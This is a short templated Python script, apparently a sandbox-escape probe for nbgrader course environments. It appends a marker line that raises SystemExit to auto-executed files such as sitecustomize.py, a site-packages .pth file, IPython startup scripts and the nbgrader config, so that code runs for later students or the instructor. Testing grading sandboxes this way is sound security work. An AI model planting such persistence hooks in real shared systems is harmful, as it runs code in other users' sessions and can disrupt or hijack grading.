"""Write files wherever it goes: course, home, temp, this environment, nbgrader's configuration.

Gain: code that the next student's exam, or the instructor, runs.
"""

# %%
import sysconfig
from pathlib import Path

course, library = Path("@COURSE@"), Path(sysconfig.get_path("purelib"))
line = "raise SystemExit('@MARK@')"
for path in (
    course / "nbgrader_config.py",
    course / "sitecustomize.py",
    course / "solutions/toy/@MARK@.py",
    course / "autograded/@MARK@",
    library / "@MARK@.pth",
    Path.home() / "@MARK@",
    Path.home() / ".ipython/profile_default/startup/@MARK@.py",
    Path("/tmp/@MARK@"),
    Path("/var/tmp/@MARK@"),
    Path("/dev/shm/@MARK@"),
    Path("/@MARK@"),
    Path("/run/@MARK@"),
):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("a") as file:
            file.write("\n" + line)
        print("wrote", path)
    except OSError as error:
        print(error)
